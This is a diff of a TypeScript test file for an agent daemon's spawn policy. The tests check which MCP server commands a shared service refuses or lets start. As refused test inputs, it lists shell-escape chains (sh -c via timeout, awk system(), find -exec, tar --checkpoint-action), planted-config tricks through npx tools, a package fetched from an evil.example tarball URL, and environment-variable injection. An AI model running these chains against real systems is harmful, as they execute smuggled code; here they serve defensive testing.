@@ -1,11 +1,12 @@
 /** The spawn policy of runtime connects, as a pure function: what may start and what is refused before anything runs. */
-import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
+import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, describe, expect, it } from 'vitest';
 import { parseConfig } from '../../src/config/index.ts';
 import { isShared } from '../../src/config/shared.ts';
 import { checkSpawn, programName, type SpawnPolicy, type SpawnRequest } from '../../src/tools/spawn/policy.ts';
+import { runtimePolicyOf } from '../../src/tools/spawn/runtime-connect.ts';
 
 const req = (command: string, args: string[] = [], env: Record<string, string> = {}, cwd?: string): SpawnRequest => ({
   command,
@@ -208,316 +209,234 @@ describe('isShared', () => {
 });
 
 /**
- * Shared mode: the commands the agent file's own servers use (or allowedCommands) and nothing else;
- * interpreters only on scripts under the agent folder or node_modules; wrappers only when listed explicitly.
- * Every canary of the black-box run (issue 23) is here.
+ * Shared mode (issue 57 item 3): only what `server.mcp.allowedCommands` lists (else the agent file's own stdio
+ * servers, exactly) runs: commands as written with their argument patterns, packages by name through launchers.
+ * Every chain of the black-box runs is refused, whatever file it would find.
  */
 describe('spawn policy of a shared service', () => {
-  const root = mkdtempSync(join(tmpdir(), 'agentd-spawn-'));
-  const agentDir = join(root, 'agent');
-  const outside = join(root, 'outside');
-  mkdirSync(join(agentDir, 'node_modules', 'x'), { recursive: true });
-  mkdirSync(outside);
-  writeFileSync(join(agentDir, 'server.js'), '');
-  writeFileSync(join(agentDir, 'start.sh'), '');
-  writeFileSync(join(agentDir, 'node_modules', 'x', 'index.js'), '');
-  writeFileSync(join(outside, 'x.js'), '');
-  writeFileSync(join(outside, 'script.sh'), '');
-  symlinkSync(join(outside, 'x.js'), join(agentDir, 'link.js'));
-  afterAll(() => rmSync(root, { recursive: true, force: true }));
-
-  // The agent file runs `node`, `npx`, `npm`, `bash` and a binary: that is the default allowlist.
-  const shared: SpawnPolicy = {
-    shared: { agentDir, defaultCommands: ['node', 'npx', 'npm', '/opt/tools/mcp-server', 'bash'] },
-  };
-  const listing = (...allowedCommands: string[]): SpawnPolicy => ({ ...shared, allowedCommands });
+  const policyOf = (allowedCommands?: unknown[], mcpServers: Record<string, unknown> = {}): SpawnPolicy =>
+    runtimePolicyOf(
+      parseConfig({
+        llm: { model: 'm' },
+        mcpServers,
+        server: { mcp: { ...(allowedCommands && { allowedCommands }) } },
+      }),
+      { shared: true },
+    );
+  const listed = policyOf([
+    '/opt/tools/mcp-server',
+    { command: '/usr/bin/node', args: ['/srv/agent/server.js', '--port', '*'], env: ['DEBUG'] },
+    { package: '@modelcontextprotocol/server-filesystem', args: ['**'] },
+    { package: 'mcp-server-time', version: '1.2.0' },
+    { package: 'mcp-server-fetch', env: ['FETCH_UA'] },
+  ]);
   const at = (field: string, reason: string) => ({ code: 'INVALID_REQUEST', field, reason });
 
   it.each([
-    ['node -pe', req('node', ['-pe', 'require("fs").writeFileSync("/tmp/c", "")']), at('config.args.0', 'inline_code')],
-    ['node <file elsewhere>', req('node', [join(outside, 'x.js')]), at('config.args.0', 'script_outside')],
     [
-      'node <a link out of the agent folder>',
-      req('node', ['link.js'], {}, agentDir),
-      at('config.args.0', 'script_outside'),
-    ],
-    ['node <a missing file>', req('node', [join(agentDir, 'nope.js')]), at('config.args.0', 'script_outside')],
-    ['node with no script', req('node', ['--no-warnings']), at('config.command', 'script_outside')],
-    [
-      'npx node <file elsewhere>',
-      req('npx', ['-y', 'node', join(outside, 'x.js')]),
-      at('config.args.2', 'script_outside'),
+      'node <a script the filesystem server wrote>',
+      req('node', ['planted.mjs']),
+      'config.command',
+      'command_not_allowed',
     ],
     [
-      'npx bash <file>',
-      req('npx', ['-y', 'bash', join(agentDir, 'start.sh')]),
-      at('config.args.1', 'wrapper_not_allowed'),
-    ],
-    ['env -S', req('env', ['-S', 'sh -c "touch /tmp/c"']), at('config.command', 'wrapper_not_allowed')],
-    [
-      'timeout before sh -c',
-      req('timeout', ['5', 'sh', '-c', 'touch /tmp/c']),
-      at('config.command', 'wrapper_not_allowed'),
+      'the listed node on another script',
+      req('/usr/bin/node', ['planted.mjs']),
+      'config.args.0',
+      'command_not_allowed',
     ],
     [
-      'nice before sh -c',
-      req('nice', ['-n', '5', 'sh', '-c', 'touch /tmp/c']),
-      at('config.command', 'wrapper_not_allowed'),
+      'the listed node, flags first',
+      req('/usr/bin/node', ['--max-old-space-size=9', '/srv/agent/server.js', '--port', '1']),
+      'config.args.0',
+      'command_not_allowed',
     ],
     [
-      'setsid before sh -c',
-      req('/usr/bin/setsid', ['sh', '-c', 'touch /tmp/c']),
-      at('config.command', 'wrapper_not_allowed'),
-    ],
-    ['awk BEGIN{system()}', req('awk', ['BEGIN{system("touch /tmp/c")}']), at('config.command', 'wrapper_not_allowed')],
-    [
-      'find -exec',
-      req('find', ['/tmp', '-maxdepth', '0', '-exec', 'touch', '/tmp/c', ';']),
-      at('config.command', 'wrapper_not_allowed'),
+      'a planted ./node',
+      req('./node', ['/srv/agent/server.js', '--port', '1']),
+      'config.command',
+      'command_not_allowed',
     ],
     [
-      'tar --checkpoint-action',
-      req('tar', ['--checkpoint=1', '--checkpoint-action=exec=touch /tmp/c', '-cf', '/dev/null', '/etc/hostname']),
-      at('config.command', 'wrapper_not_allowed'),
+      'npx why-is-node-running',
+      req('npx', ['-y', 'why-is-node-running', 'planted.js']),
+      'config.args.1',
+      'package_not_allowed',
     ],
-    ['sh <file> (sh not listed)', req('sh', [join(outside, 'script.sh')]), at('config.command', 'wrapper_not_allowed')],
     [
-      'bash <file> (bash only in the agent file, not listed explicitly)',
-      req('bash', [join(agentDir, 'start.sh')]),
-      at('config.command', 'wrapper_not_allowed'),
+      'npx eslint -c',
+      req('npx', ['-y', 'eslint', '-c', 'planted.config.js', 'x']),
+      'config.args.1',
+      'package_not_allowed',
     ],
-    ['xargs', req('xargs', ['touch']), at('config.command', 'wrapper_not_allowed')],
     [
-      'npm run (a package script runs in a shell)',
-      req('npm', ['run', 'start']),
-      at('config.command', 'wrapper_not_allowed'),
+      'npx prettier --plugin',
+      req('npx', ['prettier', '--plugin', './planted.mjs', 'x']),
+      'config.args.0',
+      'package_not_allowed',
     ],
-    ['plain touch', req('touch', ['/tmp/c']), at('config.command', 'command_not_allowed')],
-    ['plain cp', req('cp', ['/etc/hostname', '/tmp/c']), at('config.command', 'command_not_allowed')],
     [
-      'python (not in the agent file)',
-      req('python3', ['-m', 'http.server']),
-      at('config.command', 'command_not_allowed'),
+      'npx vite (its config)',
+      req('npx', ['-y', 'vite', '--config', 'planted.mjs']),
+      'config.args.1',
+      'package_not_allowed',
     ],
-  ])('refuses %s', (_name, r, expected) => {
-    expect(refusal(r, shared)).toEqual(expected);
+    ['npx vitest (its config)', req('npx', ['vitest', 'run']), 'config.args.0', 'package_not_allowed'],
+    ['npx rolldown -c', req('npx', ['rolldown', '-c', 'planted.mjs']), 'config.args.0', 'package_not_allowed'],
+    [
+      'npm exec @npmcli/arborist reify',
+      req('npm', ['exec', '--yes', '@npmcli/arborist', 'reify']),
+      'config.args.2',
+      'package_not_allowed',
+    ],
+    [
+      'npx node-gyp --python',
+      req('npx', ['node-gyp', 'rebuild', '--python=./planted']),
+      'config.args.0',
+      'package_not_allowed',
+    ],
+    ['npx node <script>', req('npx', ['-y', 'node', 'planted.mjs']), 'config.args.1', 'package_not_allowed'],
+    [
+      'a listed package with a launcher flag',
+      req('npx', ['--package=evil', 'mcp-server-fetch']),
+      'config.args.0',
+      'package_not_allowed',
+    ],
+    [
+      'a listed package from a tarball URL',
+      req('npx', ['-y', 'mcp-server-fetch@https://evil.example/x.tgz']),
+      'config.args.1',
+      'package_not_allowed',
+    ],
+    ['a listed package as an alias', req('npx', ['mcp-server-fetch@npm:evil']), 'config.args.0', 'package_not_allowed'],
+    [
+      'a listed package at another version',
+      req('uvx', ['mcp-server-time==9.9.9']),
+      'config.args.0',
+      'package_not_allowed',
+    ],
+    [
+      'a listed package with arguments none allows',
+      req('npx', ['-y', 'mcp-server-time@1.2.0', '--evil']),
+      'config.args.2',
+      'command_not_allowed',
+    ],
+    [
+      'a launcher by path',
+      req('/tmp/planted/npx', ['-y', 'mcp-server-fetch']),
+      'config.command',
+      'command_not_allowed',
+    ],
+    [
+      'OPENSSL_CONF',
+      req('npx', ['-y', 'mcp-server-fetch'], { OPENSSL_CONF: '/tmp/planted.cnf' }),
+      'config.env.OPENSSL_CONF',
+      'env_not_allowed',
+    ],
+    [
+      'NODE_REDIRECT_WARNINGS',
+      req('/usr/bin/node', ['/srv/agent/server.js', '--port', '1'], { NODE_REDIRECT_WARNINGS: '/x' }),
+      'config.env.NODE_REDIRECT_WARNINGS',
+      'env_not_allowed',
+    ],
+    [
+      'NODE_V8_COVERAGE',
+      req('/opt/tools/mcp-server', [], { NODE_V8_COVERAGE: '/x' }),
+      'config.env.NODE_V8_COVERAGE',
+      'env_not_allowed',
+    ],
+    ['a cwd of its own', req('/opt/tools/mcp-server', [], {}, '/tmp/planted'), 'config.cwd', 'cwd_not_allowed'],
+    [
+      'a string entry with arguments',
+      req('/opt/tools/mcp-server', ['--config', 'x']),
+      'config.args.0',
+      'command_not_allowed',
+    ],
+    ['touch', req('touch', ['/tmp/c']), 'config.command', 'command_not_allowed'],
+    ['timeout before sh -c', req('timeout', ['5', 'sh', '-c', 'x']), 'config.command', 'command_not_allowed'],
+  ])('refuses %s', (_name, r, field, reason) => {
+    expect(refusal(r, listed)).toEqual(at(field, reason));
   });
 
   it.each([
-    ['npx -y @modelcontextprotocol/server-everything', req('npx', ['-y', '@modelcontextprotocol/server-everything'])],
-    ['npm exec of a package', req('npm', ['exec', '--yes', '@modelcontextprotocol/server-everything'])],
-    ['node <agent folder>/server.js', req('node', [join(agentDir, 'server.js')])],
-    ['node server.js relative to cwd', req('/usr/bin/node', ['--max-old-space-size=256', 'server.js'], {}, agentDir)],
-    ['node node_modules/x/index.js', req('node', ['node_modules/x/index.js'], {}, agentDir)],
-    ['a binary of the agent file', req('/opt/tools/mcp-server', ['--config', 'x.toml'])],
+    [
+      'a listed command with its pattern',
+      req('/usr/bin/node', ['/srv/agent/server.js', '--port', '3000'], { DEBUG: '1' }),
+    ],
+    ['a string entry', req('/opt/tools/mcp-server')],
+    [
+      'a listed package with any arguments',
+      req('npx', ['-y', '@modelcontextprotocol/server-filesystem', '/data', '/srv']),
+    ],
+    [
+      'the same through npm exec, pnpm dlx, yarn dlx, bunx',
+      req('pnpm', ['dlx', '@modelcontextprotocol/server-filesystem']),
+    ],
+    ['a listed version', req('npx', ['--yes', '--', 'mcp-server-time@1.2.0'])],
+    ['a listed version through uvx', req('uvx', ['mcp-server-time==1.2.0'])],
+    ['a package listed without version, at a plain one', req('bunx', ['mcp-server-fetch@latest'], { FETCH_UA: 'x' })],
   ])('lets %s start', (_name, r) => {
-    expect(refusal(r, shared)).toBeUndefined();
+    expect(refusal(r, listed)).toBeUndefined();
   });
 
-  it("with allowedCommands, uses that list instead of the agent file's commands", () => {
-    expect(refusal(req('/opt/tools/other', []), listing('/opt/tools/other'))).toBeUndefined();
-    expect(refusal(req('npx', ['-y', 'x']), listing('/opt/tools/other'))).toEqual(
-      at('config.command', 'command_not_allowed'),
-    );
-  });
-
-  it('starts a wrapper listed explicitly; a listed shell still runs only a script under the agent folder, never -c', () => {
-    expect(refusal(req('timeout', ['5', 'node', 'x']), listing('timeout', 'node'))).toBeUndefined();
-    expect(refusal(req('sh', [join(agentDir, 'start.sh')]), listing('sh'))).toBeUndefined();
-    expect(refusal(req('sh', [join(outside, 'script.sh')]), listing('sh'))).toEqual(
-      at('config.args.0', 'script_outside'),
-    );
-    expect(refusal(req('sh', ['-c', 'touch /tmp/c']), listing('sh'))).toEqual(at('config.args.0', 'inline_code'));
-    expect(refusal(req('sh', ['-s']), listing('sh'))).toEqual(at('config.command', 'script_outside'));
-  });
-
-  it('checks what a listed env starts against the same rules', () => {
-    expect(
-      refusal(req('env', ['DEBUG=1', 'node', join(agentDir, 'server.js')]), listing('env', 'node')),
-    ).toBeUndefined();
-    expect(refusal(req('env', ['DEBUG=1', 'touch', '/tmp/c']), listing('env', 'node'))).toEqual(
-      at('config.args.1', 'command_not_allowed'),
-    );
-    expect(refusal(req('env', ['node', join(outside, 'x.js')]), listing('env', 'node'))).toEqual(
-      at('config.args.1', 'script_outside'),
-    );
-  });
-
-  it('refuses python -m (a module, not a script file) and runs a script under the agent folder', () => {
-    writeFileSync(join(agentDir, 'server.py'), '');
-    expect(refusal(req('python3', ['-m', 'http.server']), listing('python3'))).toEqual(
-      at('config.args.0', 'script_outside'),
-    );
-    expect(refusal(req('python3', ['-u', join(agentDir, 'server.py')]), listing('python3'))).toBeUndefined();
+  it("without allowedCommands, runs the agent file's own stdio servers exactly as written, nothing else", () => {
+    const own = policyOf(undefined, {
+      notes: { type: 'stdio', command: '/usr/bin/node', args: ['/srv/notes.js'], env: { TOKEN: 'x' } },
+      everything: { type: 'stdio', command: 'npx', args: ['-y', '@modelcontextprotocol/server-everything'] },
+    });
+    expect(refusal(req('/usr/bin/node', ['/srv/notes.js'], { TOKEN: 'y' }), own)).toBeUndefined();
+    expect(refusal(req('npx', ['-y', '@modelcontextprotocol/server-everything']), own)).toBeUndefined();
+    expect(refusal(req('/usr/bin/node', ['planted.mjs']), own)).toEqual(at('config.args.0', 'command_not_allowed'));
+    expect(refusal(req('npx', ['-y', 'eslint']), own)).toEqual(at('config.args.0', 'command_not_allowed'));
   });
 
   it('says which config key to set', () => {
-    const message = (r: SpawnRequest) => {
-      try {
-        checkSpawn(r, shared);
-      } catch (e) {
-        return (e as Error).message;
-      }
-      return '';
-    };
-    expect(message(req('touch', ['/tmp/c']))).toMatch(/add it to server\.mcp\.allowedCommands/);
-    expect(message(req('timeout', ['5', 'x']))).toMatch(/server\.mcp\.allowedCommands lists it explicitly/);
-    expect(message(req('node', [join(outside, 'x.js')]))).toMatch(/agent file's folder/);
+    try {
+      checkSpawn(req('touch', ['/tmp/c']), listed);
+      expect.unreachable();
+    } catch (e) {
+      expect((e as Error).message).toMatch(
+        /runs only what the operator listed: list it in server\.mcp\.allowedCommands/,
+      );
+    }
   });
 
-  it("keeps today's results when not shared", () => {
-    for (const r of [
-      req('touch', ['/tmp/c']),
-      req('timeout', ['5', 'sh', '-c', 'x']),
-      req('node', [join(outside, 'x.js')]),
-      req('awk', ['BEGIN{}']),
-    ]) {
+  it("keeps today's rules when not shared: allowedCommands names executables (a package entry: the launchers)", () => {
+    for (const r of [req('touch', ['/tmp/c']), req('node', ['planted.mjs']), req('awk', ['BEGIN{}'])])
       expect(refusal(r)).toBeUndefined();
-    }
+    const single = runtimePolicyOf(
+      parseConfig({ llm: { model: 'm' }, server: { mcp: { allowedCommands: ['node', { package: 'x' }] } } }),
+      { shared: false },
+    );
+    expect(refusal(req('node', ['planted.mjs']), single)).toBeUndefined();
+    expect(refusal(req('npx', ['-y', 'anything']), single)).toBeUndefined();
+    expect(refusal(req('touch', ['/tmp/c']), single)).toEqual(at('config.command', 'command_not_allowed'));
   });
 });
 
-/**
- * `node` (any interpreter) on a shared service runs a package's declared bin entry point or a file under the agent
- * folder, not any script under node_modules; a bin of a program the rules know (npm, npx, tsx) is read as that program.
- */
-describe("spawn policy of a shared service: packages' bins", () => {
+/** The deny-list reads a program's bin as that program (npm's npm-cli.js, tsx's cli), in every mode. */
+describe("spawn policy: packages' bins", () => {
   const root = mkdtempSync(join(tmpdir(), 'agentd-bins-'));
-  const agentDir = join(root, 'agent');
-  const global = join(root, 'lib', 'node_modules'); // a global install's folder: outside the agent folder
+  const global = join(root, 'lib', 'node_modules');
   const file = (path: string, text = '') => {
     mkdirSync(join(path, '..'), { recursive: true });
     writeFileSync(path, text);
   };
-  const manifest = (dir: string, value: object) => file(join(dir, 'package.json'), JSON.stringify(value));
-  mkdirSync(agentDir, { recursive: true });
-  file(join(agentDir, 'server.ts'));
-  // A package with an object bin, a script that is not one, and a nameless dist/package.json (a type marker).
-  const binpkg = join(global, 'binpkg');
-  manifest(binpkg, { name: 'binpkg', bin: { 'bin-server': 'bin/server.js', 'bin-cli': './dist/cli.mjs' } });
-  file(join(binpkg, 'bin', 'server.js'));
-  file(join(binpkg, 'lib', 'other.js'));
-  manifest(join(binpkg, 'dist'), { type: 'module' });
-  file(join(binpkg, 'dist', 'cli.mjs'));
-  file(join(binpkg, 'dist', 'inner.mjs'));
-  // A scoped package whose bin is a string (named after the package without its scope).
-  const strbin = join(global, '@scope', 'strbin');
-  manifest(strbin, { name: '@scope/strbin', bin: 'cli.js' });
-  file(join(strbin, 'cli.js'));
-  // npm and tsx as they are installed.
   const npm = join(global, 'npm');
-  manifest(npm, { name: 'npm', bin: { npm: 'bin/npm-cli.js', npx: 'bin/npx-cli.js' } });
+  file(join(npm, 'package.json'), JSON.stringify({ name: 'npm', bin: { npm: 'bin/npm-cli.js' } }));
   file(join(npm, 'bin', 'npm-cli.js'));
-  file(join(npm, 'bin', 'npx-cli.js'));
   const tsx = join(global, 'tsx');
-  manifest(tsx, { name: 'tsx', bin: './dist/cli.mjs' });
+  file(join(tsx, 'package.json'), JSON.stringify({ name: 'tsx', bin: './dist/cli.mjs' }));
   file(join(tsx, 'dist', 'cli.mjs'));
-  mkdirSync(join(global, '.bin'));
-  symlinkSync('../binpkg/bin/server.js', join(global, '.bin', 'bin-server'));
-  symlinkSync('lib/node_modules/npm/bin/npm-cli.js', join(root, 'npm-link')); // as /usr/bin/npm
+  file(join(global, 'other', 'lib.js'));
   afterAll(() => rmSync(root, { recursive: true, force: true }));
-
-  const policy = (...allowedCommands: string[]): SpawnPolicy => ({
-    shared: { agentDir, defaultCommands: ['node', 'npm', 'npx'] },
-    ...(allowedCommands.length > 0 && { allowedCommands }),
-  });
   const at = (field: string, reason: string) => ({ code: 'INVALID_REQUEST', field, reason });
 
-  it.each([
-    ['a declared bin outside the agent folder', req('node', [join(binpkg, 'bin', 'server.js'), '--stdio'])],
-    ['a declared bin through node_modules/.bin (a link)', req('node', ['.bin/bin-server'], {}, global)],
-    [
-      'a bin under a nameless dist/package.json, declared by the package',
-      req('node', [join(binpkg, 'dist', 'cli.mjs')]),
-    ],
-    ["a scoped package's string bin", req('node', [join(strbin, 'cli.js')])],
-    [
-      "npm's bin running a package (npm allowed)",
-      req('node', [join(npm, 'bin', 'npm-cli.js'), 'exec', '--yes', 'some-mcp-server']),
-    ],
-    ["npm's bin through a link", req('node', [join(root, 'npm-link'), 'exec', '--', 'some-mcp-server'])],
-    ['a file under the agent folder', req('node', [join(agentDir, 'server.ts')])],
-  ])('lets node run %s', (_name, r) => {
-    expect(refusal(r, policy())).toBeUndefined();
-  });
-
-  it.each([
-    [
-      'a script under node_modules that is no bin',
-      req('node', [join(binpkg, 'lib', 'other.js')]),
-      at('config.args.0', 'script_outside'),
-    ],
-    ['a module beside a bin', req('node', [join(binpkg, 'dist', 'inner.mjs')]), at('config.args.0', 'script_outside')],
-    ["a package's manifest", req('node', [join(binpkg, 'package.json')]), at('config.args.0', 'script_outside')],
-    [
-      'npm-cli.js exec -c',
-      req('node', [join(npm, 'bin', 'npm-cli.js'), 'exec', '-c', 'touch /tmp/c']),
-      at('config.args.2', 'inline_code'),
-    ],
-    [
-      'npm-cli.js (linked) --yes exec --call=',
-      req('node', [join(root, 'npm-link'), '--yes', 'exec', '--call=touch /tmp/c']),
-      at('config.args.3', 'inline_code'),
-    ],
-    [
-      'npx-cli.js -c',
-      req('node', [join(npm, 'bin', 'npx-cli.js'), '-c', 'touch /tmp/c']),
-      at('config.args.1', 'inline_code'),
-    ],
-    [
-      "tsx's cli -e",
-      req('node', [join(tsx, 'dist', 'cli.mjs'), '-e', 'process.exit()']),
-      at('config.args.1', 'inline_code'),
-    ],
-    [
-      "tsx's cli --eval after a flag",
-      req('node', ['--no-warnings', join(tsx, 'dist', 'cli.mjs'), '--tsconfig', 'x.json', '--eval', '1']),
-      at('config.args.4', 'inline_code'),
-    ],
-    [
-      "tsx's cli (tsx not allowed)",
-      req('node', [join(tsx, 'dist', 'cli.mjs'), join(agentDir, 'server.ts')]),
-      at('config.args.0', 'command_not_allowed'),
-    ],
-    [
-      "npx's bin (npx not allowed)",
-      req('node', [join(npm, 'bin', 'npx-cli.js'), '-y', 'any-package']),
-      at('config.args.0', 'command_not_allowed'),
-    ],
-    [
-      'npx node <a script under node_modules that is no bin>',
-      req('npx', ['-y', 'node', join(binpkg, 'lib', 'other.js')]),
-      at('config.args.2', 'script_outside'),
-    ],
-  ])('refuses node on %s', (_name, r, expected) => {
-    expect(refusal(r, _name.includes('not allowed') ? policy('node') : policy())).toEqual(expected);
-  });
-
-  it("reads tsx's bin as tsx when tsx is allowed: its script passes the same rules", () => {
-    expect(
-      refusal(req('node', [join(tsx, 'dist', 'cli.mjs'), join(agentDir, 'server.ts')]), policy('node', 'tsx')),
-    ).toBeUndefined();
-    expect(
-      refusal(req('node', [join(tsx, 'dist', 'cli.mjs'), join(binpkg, 'lib', 'other.js')]), policy('node', 'tsx')),
-    ).toEqual(at('config.args.1', 'script_outside'));
-  });
-
-  it("refuses inline code through a program's bin when not shared too (the deny-list)", () => {
+  it("refuses inline code through a program's bin", () => {
     expect(refusal(req('node', [join(npm, 'bin', 'npm-cli.js'), 'exec', '-c', 'id']))).toEqual(
       at('config.args.2', 'inline_code'),
     );
     expect(refusal(req('node', [join(tsx, 'dist', 'cli.mjs'), '-e', '1']))).toEqual(at('config.args.1', 'inline_code'));
-    expect(refusal(req('node', [join(binpkg, 'lib', 'other.js')]))).toBeUndefined(); // not shared: any script
-  });
-
-  it('says what a shared service runs', () => {
-    try {
-      checkSpawn(req('node', [join(binpkg, 'lib', 'other.js')]), policy());
-      expect.unreachable();
-    } catch (e) {
-      expect((e as Error).message).toMatch(
-        /neither a package's declared bin entry point nor a file under the agent file's folder/,
-      );
-    }
+    expect(refusal(req('node', [join(global, 'other', 'lib.js')]))).toBeUndefined(); // not shared: any script
   });
 });
